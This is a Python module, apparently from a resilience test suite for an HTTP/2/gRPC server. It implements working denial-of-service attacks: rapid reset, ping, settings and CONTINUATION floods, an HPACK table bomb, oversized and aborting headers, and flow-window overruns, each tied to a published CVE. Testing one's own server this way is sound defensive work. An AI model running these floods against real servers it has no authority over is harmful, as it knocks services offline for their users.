"""Frames of HTTP/2 that cost the server more than those who send them."""

from __future__ import annotations

import struct

from http2 import (
    ACK,
    DETECT,
    END_HEADERS,
    END_STREAM,
    HEALTH,
    MAX_FRAME,
    STREAM,
    Connection,
    Kind,
    Setting,
    call,
    call_block,
    frame,
    is_end,
    literal,
    message,
    reset,
    setting,
)
from target import Tally, Target, attack, rounds


def _flood(target: Target, what: str, batch: bytes, size: int, listens: bool) -> Tally:
    """Sends a batch of `size` frames again and again, with or without taking the answers."""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        with survived, target.connect(patience=0.5) as connection:
            while target.goes_on():
                connection.send(batch)
                tally[what] += size
                if listens:
                    list(connection.receive())
    return tally


@attack("resets")
def rapid_reset(target: Target) -> Tally:
    """Calls that are reset as soon as they are made (CVE-2023-44487)"""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        path = (HEALTH, DETECT, STREAM)[tally["rounds"] % 3]
        with survived, target.connect(patience=0.5) as connection:
            while target.goes_on() and connection.streams < 20_000:
                streams = [connection.next_stream() for _ in range(50)]
                connection.send(*(call(path, stream) + reset(stream) for stream in streams))
                tally["resets"] += len(streams)
                list(connection.receive())
    return tally


@attack("resets")
def reset_by_fault(target: Target) -> Tally:
    """Calls that the server has to reset for what follows them (CVE-2025-8671)"""
    tally: Tally = Tally()
    no_window = struct.pack(">I", 0)  # a window update by 0 is an error of that stream
    for survived in rounds(target, tally):
        with survived, target.connect(patience=0.5) as connection:
            while target.goes_on() and connection.streams < 20_000:
                for stream in [connection.next_stream() for _ in range(50)]:
                    update = frame(Kind.WINDOW_UPDATE, 0, stream, no_window)
                    connection.send(call(HEALTH, stream) + update)
                    tally["resets"] += 1
                list(connection.receive())
    return tally


PING = frame(Kind.PING, payload=b"12345678")


@attack("pings")
def ping_flood(target: Target) -> Tally:
    """Pings, of which each wants an answer"""
    return _flood(target, "pings", PING * 500, 500, listens=True)


@attack("pings")
def unread_pings(target: Target) -> Tally:
    """Pings whose answers are not taken (CVE-2019-9512)"""
    return _flood(target, "pings", PING * 500, 500, listens=False)


@attack("settings")
def settings_flood(target: Target) -> Tally:
    """Settings, of which each wants an answer, and none is taken (CVE-2019-9515)"""
    batch = frame(Kind.SETTINGS, payload=setting(Setting.INITIAL_WINDOW_SIZE, 70_000)) * 500
    return _flood(target, "settings", batch, 500, listens=False)


@attack("frames")
def empty_frames(target: Target) -> Tally:
    """Empty DATA frames that never end a message (CVE-2019-9518)"""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        with survived, target.connect(patience=0.5) as connection:
            stream = connection.next_stream()
            connection.send(call(HEALTH, stream))
            while target.goes_on():
                connection.send(frame(Kind.DATA, 0, stream) * 500)
                tally["frames"] += 500
                list(connection.receive())
    return tally


@attack("bytes")
def continuation_flood(target: Target) -> Tally:
    """A header without an end, by CONTINUATION frames (CVE-2024-27316)"""
    tally: Tally = Tally()
    piece = frame(Kind.CONTINUATION, payload=literal("x-" + "n" * 100, "v" * 16000), stream=1)
    for survived in rounds(target, tally):
        with survived, target.connect(patience=0.5) as connection:
            connection.send(frame(Kind.HEADERS, 0, connection.next_stream(), call_block(HEALTH)))
            while target.goes_on():
                connection.send(piece)
                tally["bytes"] += len(piece)
                list(connection.receive())
    return tally


@attack("calls")
def huge_headers(target: Target) -> Tally:
    """Metadata of 1 MiB, in many small fields and in one"""
    tally: Tally = Tally()
    many = b"".join(literal(f"x-{i}", "v" * 50) for i in range(16_000))
    for survived in rounds(target, tally):
        block = call_block(HEALTH) + (many if tally["rounds"] % 2 else literal("x", "v" * 2**20))
        with survived, target.connect() as connection:
            _send_headers(connection, block)
            tally["calls"] += 1
            heard = list(connection.receive(0.5))
            tally["answers"] += sum(is_end(kind, flags) for kind, flags, *_ in heard)
    return tally


def _send_headers(connection: Connection, block: bytes) -> None:
    stream = connection.next_stream()
    pieces = [block[at : at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)]
    for number, piece in enumerate(pieces):
        kind = Kind.CONTINUATION if number else Kind.HEADERS
        flags = END_HEADERS if number == len(pieces) - 1 else 0
        connection.send(frame(kind, flags, stream, piece))


@attack("calls")
def header_table_bomb(target: Target) -> Tally:
    """A header of 4 KiB kept in HPACK's table, named 4,000 times in a byte each"""
    tally: Tally = Tally()
    bomb = call_block(HEALTH) + literal("x", "v" * 3900, indexed=True) + b"\xbe" * 4000
    for survived in rounds(target, tally):
        with survived, target.connect() as connection:
            for _ in range(20):
                _send_headers(connection, bomb)
                tally["calls"] += 1
                list(connection.receive(0.005))
    return tally


@attack("streams")
def many_streams(target: Target) -> Tally:
    """5,000 calls at once on a connection, without heed of the limit"""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        with survived, target.connect() as connection:
            path = (HEALTH, DETECT, STREAM)[tally["rounds"] % 3]
            for _ in range(100):
                streams = [connection.next_stream() for _ in range(50)]
                connection.send(*(call(path, stream) for stream in streams))
                tally["streams"] += len(streams)
                list(connection.receive())
    return tally


@attack("calls")
def beyond_the_window(target: Target) -> Tally:
    """DATA that the windows have no room for"""
    tally: Tally = Tally()
    chunk = bytes(MAX_FRAME)
    for survived in rounds(target, tally):
        with survived, target.connect(patience=0.5) as connection:
            stream = connection.next_stream()
            connection.send(call(HEALTH, stream))
            connection.send(frame(Kind.DATA, 0, stream, message(size=2**31)))
            tally["calls"] += 1
            while target.goes_on():
                connection.send(frame(Kind.DATA, 0, stream, chunk))
                tally["bytes"] += len(chunk)
    return tally


# What gRPC 1.51.0 is said to abort at (CVE-2023-1428), each with a header beyond 8 KiB.
ABORTING = [("te", "x"), (":scheme", "gopher"), ("grpclb_client_stats", "x")]


@attack("blocks")
def aborting_headers(target: Target) -> Tally:
    """Values of te, :scheme and grpclb_client_stats that are none, before headers too large"""
    tally: Tally = Tally()
    for survived in rounds(target, tally):
        header = ABORTING[tally["rounds"] % len(ABORTING)]
        with survived, target.connect() as connection:
            list(connection.receive(0.2))
            connection.send(frame(Kind.SETTINGS, ACK))  # from here on the server's limits hold
            block = aborting_block(header, size=(9000, 16_000)[tally["rounds"] % 2])
            connection.send(frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, block))
            tally["blocks"] += 1
            list(connection.receive(0.2))
    return tally


def aborting_block(header: tuple[str, str], size: int) -> bytes:
    usual = {":scheme": "http", "te": "trailers"}
    fields = [(":path", HEALTH), (":authority", "fovea"), ("content-type", "application/grpc")]
    fields += [*(usual | dict([header])).items(), ("x", "v" * size)]
    return b"\x83" + b"".join(literal(name, value) for name, value in fields)
